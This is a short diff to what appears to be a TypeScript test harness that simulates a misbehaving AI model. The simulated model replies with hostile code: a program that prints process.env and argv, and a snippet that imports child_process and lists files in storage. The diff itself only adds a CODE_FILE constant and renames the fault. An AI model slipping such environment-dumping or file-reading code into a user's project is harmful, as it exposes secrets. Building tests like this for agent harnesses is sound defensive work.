@@ -2,6 +2,9 @@ import { USAGE, type Attack, type Fault, type ModelCall } from '../attack.ts';
 import { write } from '../task.ts';
 import { SUM_TEST } from '../tasks.ts';
 
+/** The file with this code. */
+export const CODE_FILE = 'src/sum.mjs';
+
 /** Code of the model that a command of the contract runs: the user's test imports it. */
 const PROGRAMS: readonly (readonly [name: string, create: (attack: Attack) => string])[] = [
   ['prints the environment', () => 'console.log(process.env, process.argv);'],
@@ -85,9 +88,9 @@ for (const name of fs.readdirSync('${site.storage}')) {
 function running(name: string, create: (attack: Attack) => string, isCorrect: boolean): Fault {
   return {
     kind: 'model',
-    name: 'hostile code',
+    name: `code: ${name}`,
     reply(attack: Attack, call: ModelCall) {
-      if (call.turn > 0 || call.attempt > 1 || call.task.file !== 'src/sum.mjs') return undefined;
+      if (call.turn > 0 || call.attempt > 1 || call.task.file !== CODE_FILE) return undefined;
       const result = isCorrect ? 'a + b' : 'a - b';
       const text = `import child from 'node:child_process';
 import fs from 'node:fs';
